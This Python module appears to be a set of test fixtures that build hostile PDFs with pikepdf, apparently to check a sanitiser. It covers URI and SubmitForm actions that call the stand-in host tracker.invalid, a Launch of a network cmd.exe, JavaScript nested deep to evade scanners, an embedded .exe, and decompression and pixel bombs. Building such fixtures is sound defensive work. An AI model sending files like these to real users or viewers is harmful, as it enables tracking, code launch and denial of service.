"""Hostile PDFs, made in memory with pikepdf: actions the old inspection missed, and bombs."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

MARK = "PANAH-VISIBLE-TEXT"


def _base(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
        page = pdf.pages[-1]
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 20 100 Td ({MARK}) Tj ET".encode())
    return pdf


def _bytes(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    # Uncompressed, so a test can see the hostile text is there before the rewrite.
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def uri_open_action() -> bytes:
    pdf = _base()
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://tracker.invalid/opened"))
    return _bytes(pdf)


def uri_page_action() -> bytes:
    pdf = _base()
    pdf.pages[0].obj.AA = Dictionary(
        O=Dictionary(S=Name.URI, URI=String("https://tracker.invalid/page"))
    )
    return _bytes(pdf)


def submit_form() -> bytes:
    pdf = _base()
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 50, 20]), FT=Name.Tx,
            T=String("name"), P=pdf.pages[0].obj,
            A=Dictionary(S=Name.SubmitForm, F=String("https://tracker.invalid/submit")),
        )
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return _bytes(pdf)


def goto_remote_network_path() -> bytes:
    pdf = _base()
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 200, 200]),
        A=Dictionary(S=Name.GoToR, F=String("\\\\tracker.invalid\\share\\x.pdf"),
                     D=Array([0, Name.Fit])),
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    return _bytes(pdf)


def xfa_form() -> bytes:
    pdf = _base()
    xfa = pdf.make_stream(b"<xdp:xdp><script>xfa.host.gotoURL('https://tracker.invalid')</script>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _bytes(pdf)


def launch_with_indirect_name() -> bytes:
    pdf = _base()
    action = Dictionary(F=String("\\\\tracker.invalid\\cmd.exe"))
    action.S = pdf.make_indirect(Name.Launch)
    pdf.Root.OpenAction = pdf.make_indirect(action)
    return _bytes(pdf)


def javascript_nested_deep(depth: int = 80) -> bytes:
    """JavaScript deeper than a recursive walk with a depth limit looks."""
    pdf = _base()
    inner = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('https://tracker.invalid')"))
    for _ in range(depth):
        inner = Dictionary(Next=inner)
    pdf.pages[0].obj.Resources.Properties = Dictionary(P0=inner)
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("1"), Next=inner)
    return _bytes(pdf)


def javascript_in_a_form_xobject() -> bytes:
    pdf = _base()
    form = pdf.make_stream(b"")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 1, 1])
    form.AA = Dictionary(S=Name.JavaScript, JS=String("app.alert('tracker.invalid')"))
    pdf.pages[0].obj.Resources.XObject = Dictionary(X0=form)
    return _bytes(pdf)


def embedded_file_annotation() -> bytes:
    pdf = _base()
    spec = Dictionary(
        Type=Name.Filespec, F=String("tracker.invalid.exe"),
        EF=Dictionary(F=pdf.make_stream(b"MZ not really a program")),
    )  # fmt: skip
    annot = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                       Rect=Array([0, 0, 10, 10]), FS=spec)  # fmt: skip
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot)])
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), spec])))
    return _bytes(pdf)


ACTIONS = {
    "uri-open-action": uri_open_action,
    "uri-page-action": uri_page_action,
    "submit-form": submit_form,
    "goto-remote-network-path": goto_remote_network_path,
    "xfa": xfa_form,
    "launch-indirect-name": launch_with_indirect_name,
    "javascript-nested-deep": javascript_nested_deep,
    "javascript-in-form-xobject": javascript_in_a_form_xobject,
    "embedded-file-annotation": embedded_file_annotation,
}


def flate_bomb(streams: int = 5, megabytes: int = 8) -> bytes:
    """A few kilobytes that inflate to ``streams`` × ``megabytes`` MB of page content."""
    pdf = _base()
    zeros = zlib.compress(b" " * (megabytes * 1024 * 1024), 9)
    contents = [pdf.pages[0].obj.Contents]
    for _ in range(streams):
        stream = pikepdf.Stream(pdf, zeros)
        stream.Filter = Name.FlateDecode
        contents.append(pdf.make_indirect(stream))
    pdf.pages[0].obj.Contents = Array(contents)
    return _bytes(pdf)


def pixel_bomb_image(width: int = 20_000, height: int = 20_000) -> bytes:
    """An image XObject claiming 400 megapixels in a few bytes: a viewer or renderer
    allocates for the dimensions it claims, so the dimensions alone must refuse it."""
    pdf = _base()
    data = zlib.compress(b"\0" * 1024, 9)
    image = pikepdf.Stream(pdf, data)
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height = width, height
    image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 1
    image.Filter = Name.FlateDecode
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im0=image)
    return _bytes(pdf)
